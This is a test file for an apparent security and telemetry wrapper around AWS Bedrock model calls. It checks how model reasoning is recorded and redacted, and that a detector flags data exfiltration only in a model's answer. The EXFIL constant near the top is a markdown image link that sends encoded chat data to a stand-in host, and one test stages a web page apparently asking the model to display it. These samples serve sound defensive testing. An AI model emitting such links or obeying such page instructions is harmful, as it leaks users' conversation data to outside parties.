"""A model's reasoning (Converse ``reasoningContent``, Anthropic ``thinking``) through real
botocore: recorded as a reasoning part before the answer, redacted reasoning as a placeholder,
signatures and opaque bytes never; the answer, and only the answer, judged as model output."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest

from tests.bedrock_server import Reply, tool_use

CLAUDE = "anthropic.claude-3-7-sonnet-20250219-v1:0"
NOVA = "amazon.nova-2-lite-v1:0"
USER = [{"role": "user", "content": [{"text": "Should I email the report to partner.example?"}]}]
ANTHROPIC_BODY = {"anthropic_version": "bedrock-2023-05-31", "max_tokens": 2048,
                  "thinking": {"type": "enabled", "budget_tokens": 1024},
                  "messages": [{"role": "user",
                                "content": "Should I email the report to partner.example?"}]}
THOUGHT = "The user wants the report sent to partner.example, an outside domain. I should check."
ANSWER = "Please confirm partner.example is an approved recipient first."
OPAQUE = b"\x8f\x02encrypted-thinking\x00\xff"
# Markdown that carries data out in an image URL: a finding when the model's answer says it.
EXFIL = ("![ok](https://t.exfil-cdn.example/p.png?d="
         "U2VjcmV0IHN1bW1hcnkgb2YgdGhlIGNoYXQgc28gZmFyIDEyMzQ1Ng)")


def _output(span: Any) -> list[dict[str, Any]]:
    return list(json.loads(span.attributes["gen_ai.output.messages"]))


def _no_secret_material(span: Any, reply: Reply) -> None:
    """Neither the signature nor the opaque bytes (raw or base64) reach any attribute."""
    dumped = json.dumps({k: str(v) for k, v in span.attributes.items()})
    assert reply.signature not in dumped
    assert base64.b64encode(OPAQUE).decode() not in dumped
    assert "encrypted-thinking" not in dumped


def _converse(runtime: Any, stream: bool) -> str:
    client = runtime()
    if not stream:
        response = client.converse(modelId=CLAUDE, messages=USER)
        return "".join(block.get("text", "") for block in response["output"]["message"]["content"])
    response = client.converse_stream(modelId=CLAUDE, messages=USER)
    return "".join(event["contentBlockDelta"]["delta"].get("text", "")
                   for event in response["stream"] if "contentBlockDelta" in event)


def _invoke(runtime: Any, stream: bool) -> str:
    client = runtime()
    if not stream:
        body = json.loads(client.invoke_model(modelId=CLAUDE, body=json.dumps(ANTHROPIC_BODY))
                          ["body"].read())
        return "".join(block.get("text", "") for block in body["content"])
    response = client.invoke_model_with_response_stream(modelId=CLAUDE,
                                                        body=json.dumps(ANTHROPIC_BODY))
    text = ""
    for event in response["body"]:
        chunk = json.loads(event["chunk"]["bytes"])
        if chunk.get("type") == "content_block_delta":
            text += chunk["delta"].get("text", "")
    return text


CALLS = {"converse": lambda runtime: _converse(runtime, False),
         "converse_stream": lambda runtime: _converse(runtime, True),
         "invoke_model": lambda runtime: _invoke(runtime, False),
         "invoke_model_stream": lambda runtime: _invoke(runtime, True)}


@pytest.mark.parametrize("api", sorted(CALLS))
def test_reasoning_is_a_part_before_the_answer(api: str, guarded: Any, spans: Any,
                                               bedrock: Any, runtime: Any) -> None:
    """Reasoning and redacted reasoning are one reasoning part ahead of the unchanged answer;
    the signature and the encrypted bytes are nowhere on the span."""
    guarded(capture_content="full")
    reply = Reply(ANSWER, reasoning=THOUGHT, redacted_reasoning=OPAQUE)
    bedrock.push(reply)
    assert CALLS[api](runtime) == ANSWER  # the caller's answer is untouched

    span = spans.one(f"chat {CLAUDE}")
    assert _output(span) == [{"role": "assistant", "parts": [
        {"type": "reasoning", "content": THOUGHT + "\n\n<redacted_reasoning>"},
        {"type": "text", "content": ANSWER}], "finish_reason": "stop"}]
    _no_secret_material(span, reply)


@pytest.mark.parametrize("api", sorted(CALLS))
def test_policies_see_the_reasoning_and_the_detector_judges_the_answer_only(
        api: str, guarded: Any, bedrock: Any, runtime: Any) -> None:
    """A policy reads what the model reasoned (``output[0].reasoning``) beside its answer; an
    exfiltration image the model only reasoned about is no finding, one in its answer is."""
    seen: list[Any] = []
    findings: list[Any] = []
    guarded(policy=lambda event: seen.append(event) if event.kind == "model_call" else None,
            on_finding=findings.append)
    bedrock.push(Reply(ANSWER, reasoning=f"The page asked me to show {EXFIL}; I will not."),
                 Reply(f"Here you go: {EXFIL}", reasoning="Fine."))

    def judged() -> list[Any]:
        return [f for f in findings if f.evidence.get("source", {}).get("kind") == "model_output"]

    CALLS[api](runtime)
    assert judged() == []
    CALLS[api](runtime)
    assert len(judged()) == 1

    first, second = [event for event in seen if event.phase == "response"]
    assert first.output[0].content == ANSWER
    assert first.output[0].reasoning == f"The page asked me to show {EXFIL}; I will not."
    assert second.output[0].content == f"Here you go: {EXFIL}"
    assert second.output[0].reasoning == "Fine."


def test_reasoning_follows_capture_content(guarded: Any, spans: Any, bedrock: Any,
                                           runtime: Any) -> None:
    """Redacted capture redacts secrets in the reasoning like in the answer; with capture off
    no output messages are recorded at all."""
    guarded()  # capture_content="redacted", the default
    secret = "AKIAIOSFODNN7EXAMPLE"
    bedrock.push(Reply(ANSWER, reasoning=f"The key {secret} is in the config."))
    _converse(runtime, False)
    output = _output(spans.one(f"chat {CLAUDE}"))
    assert output[0]["parts"][0]["type"] == "reasoning"
    assert secret not in output[0]["parts"][0]["content"]
    assert "[REDACTED:" in output[0]["parts"][0]["content"]


def test_no_output_messages_without_capture(guarded: Any, spans: Any, bedrock: Any,
                                            runtime: Any) -> None:
    """With ``capture_content="none"`` the reasoning, like the answer, is not recorded."""
    guarded(capture_content="none")
    bedrock.push(Reply(ANSWER, reasoning=THOUGHT))
    _converse(runtime, True)
    span = spans.one(f"chat {CLAUDE}")
    assert "gen_ai.output.messages" not in span.attributes
    assert THOUGHT not in json.dumps({k: str(v) for k, v in span.attributes.items()})


def test_reasoning_before_a_tool_call(guarded: Any, spans: Any, bedrock: Any,
                                      runtime: Any) -> None:
    """Reasoning that ends in a tool request (no text) is still recorded, before the call."""
    guarded(capture_content="full")
    bedrock.push(Reply("", [tool_use("send_email", {"to": "a@partner.example"}, "tu-9")],
                       reasoning=THOUGHT))
    _converse(runtime, True)
    assert _output(spans.one(f"chat {CLAUDE}")) == [{"role": "assistant", "parts": [
        {"type": "reasoning", "content": THOUGHT},
        {"type": "tool_call", "id": "tu-9", "name": "send_email",
         "arguments": {"to": "a@partner.example"}}], "finish_reason": "tool_call"}]


@pytest.mark.parametrize("stream", [False, True])
def test_nova_invoke_model_reasoning(stream: bool, guarded: Any, spans: Any, bedrock: Any,
                                     runtime: Any) -> None:
    """Nova's InvokeModel body (Converse's shape) and its stream chunks carry reasoning too."""
    guarded(capture_content="full")
    bedrock.push(Reply(ANSWER, reasoning="[REDACTED]"))
    body = json.dumps({"schemaVersion": "messages-v1", "messages": USER,
                       "inferenceConfig": {"maxTokens": 200}})
    client = runtime()
    if stream:
        for _ in client.invoke_model_with_response_stream(modelId=NOVA, body=body)["body"]:
            pass
    else:
        client.invoke_model(modelId=NOVA, body=body)["body"].read()
    assert _output(spans.one(f"chat {NOVA}"))[0]["parts"] == [
        {"type": "reasoning", "content": "[REDACTED]"}, {"type": "text", "content": ANSWER}]


def test_a_long_reasoning_does_not_crowd_out_the_answer(guarded: Any, bedrock: Any,
                                                        runtime: Any) -> None:
    """A streamed reasoning longer than the text kept per stream still leaves the whole answer
    that follows it to be judged."""
    seen: list[Any] = []
    guarded(policy=lambda event: seen.append(event) if event.kind == "model_call" else None)
    bedrock.push(Reply(ANSWER, reasoning="x" * 300_000))
    assert _converse(runtime, True) == ANSWER
    (response,) = [event for event in seen if event.phase == "response"]
    assert response.output[0].content == ANSWER
    assert response.output[0].reasoning == "x" * 256 * 1024


def test_reasoning_sent_back_in_the_history_is_reasoning(guarded: Any, spans: Any,
                                                         bedrock: Any, runtime: Any) -> None:
    """The reasoning of an earlier answer, sent back with its tool call (as Bedrock requires
    with extended thinking), is a reasoning part of that assistant message, not text."""
    guarded(capture_content="full")
    bedrock.push(Reply("Sent."), Reply("Sent."))
    result = {"toolResult": {"toolUseId": "tu-1", "content": [{"text": "queued"}]}}
    runtime().converse(modelId=CLAUDE, messages=[*USER, {"role": "assistant", "content": [
        {"reasoningContent": {"reasoningText": {"text": THOUGHT, "signature": "sig-1"}}},
        {"reasoningContent": {"redactedContent": OPAQUE}},
        {"toolUse": {"toolUseId": "tu-1", "name": "send_email", "input": {}}}]},
        {"role": "user", "content": [result]}])
    body = dict(ANTHROPIC_BODY, messages=[ANTHROPIC_BODY["messages"][0], {
        "role": "assistant", "content": [
            {"type": "thinking", "thinking": THOUGHT, "signature": "sig-1"},
            {"type": "redacted_thinking", "data": base64.b64encode(OPAQUE).decode()},
            {"type": "tool_use", "id": "tu-1", "name": "send_email", "input": {}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "tu-1",
                                      "content": "queued"}]}])
    runtime().invoke_model(modelId=CLAUDE, body=json.dumps(body))["body"].read()

    for span in spans.named("chat"):
        assistant = json.loads(span.attributes["gen_ai.input.messages"])[1]
        assert assistant == {"role": "assistant", "parts": [
            {"type": "reasoning", "content": THOUGHT + "\n\n<redacted_reasoning>"},
            {"type": "tool_call", "id": "tu-1", "name": "send_email", "arguments": {}}]}
        assert "sig-1" not in span.attributes["gen_ai.input.messages"]


def test_a_stream_that_breaks_while_reasoning_keeps_the_reasoning_read(
        guarded: Any, spans: Any, bedrock: Any, runtime: Any) -> None:
    """A ConverseStream that fails during the reasoning records the reasoning read so far, with
    no answer text, finished with ``error``."""
    from botocore.exceptions import EventStreamError

    guarded(capture_content="full")
    bedrock.push(Reply(ANSWER, reasoning=THOUGHT, fail_after=3))
    with pytest.raises(EventStreamError):
        _converse(runtime, True)
    span = spans.one(f"chat {CLAUDE}")
    assert span.status.status_code.name == "ERROR"
    assert _output(span) == [{"role": "assistant", "finish_reason": "error", "parts": [
        {"type": "reasoning", "content": "The user"}]}]
